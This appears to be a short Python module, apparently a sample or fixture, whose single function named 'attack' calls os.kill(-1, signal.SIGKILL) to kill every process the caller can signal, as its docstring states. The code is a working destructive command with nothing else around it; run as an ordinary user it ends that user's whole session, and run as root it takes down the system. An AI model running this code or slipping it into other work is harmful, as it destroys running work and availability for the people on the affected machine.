"""Ends every process that it can reach."""

import os
import signal


def attack() -> bool:
    os.kill(-1, signal.SIGKILL)
    return False
